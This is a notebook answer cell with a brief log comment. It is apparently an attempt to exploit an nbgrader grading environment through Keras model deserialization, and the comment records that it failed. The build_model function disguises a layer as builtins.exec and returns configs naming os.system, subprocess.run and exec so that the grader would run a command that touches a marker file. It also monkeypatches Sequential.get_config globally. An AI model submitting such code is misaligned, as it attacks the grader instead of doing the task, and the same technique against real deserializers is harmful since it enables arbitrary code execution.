# tries: models whose get_config names modules and functions to be imported and called
# worked: no (nbgrader 0.9.6 in one process)
# %% answer build_model
def build_model(inputs):
    keras = quiet_keras()

    class Evil(keras.layers.Dense):
        def get_config(self):
            return {
                "module": "os",
                "class_name": "system",
                "config": {"command": "touch /tmp/attack-left-config"},
                "registered_name": "builtins.exec",
                "build_config": None,
            }

    Evil.__module__, Evil.__name__ = "builtins", "exec"
    keras.Sequential.get_config = lambda self: {
        "module": "subprocess",
        "class_name": "run",
        "config": {"args": ["touch", "/tmp/attack-left-config"]},
        "layers": [{"module": "builtins", "class_name": "exec", "config": {"source": "1/0"}}],
    }
    return keras.Sequential([keras.Input((inputs,)), Evil(4), keras.layers.Dense(1)])
